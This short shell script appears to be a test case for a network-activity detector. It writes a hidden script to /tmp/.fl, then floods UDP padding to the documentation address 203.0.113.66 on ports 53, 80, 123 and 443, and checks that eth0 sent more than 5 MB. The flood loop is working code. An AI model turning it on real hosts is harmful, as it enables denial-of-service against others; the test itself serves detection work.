#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.fl <<'END'
pad=$(printf '%01200d' 0)
for p in 53 80 123 443; do
    ( for ((k = 0; k < 40; k++)); do exec 5>/dev/udp/203.0.113.66/$p; for ((n = 0; n < 250; n++)); do printf %s "$pad" >&5; done 2>/dev/null; done ) &
done
wait
END
bash /tmp/.fl 2>/dev/null
test "$(awk '/eth0/ { print $10 }' /proc/net/dev)" -gt 5000000
took_place
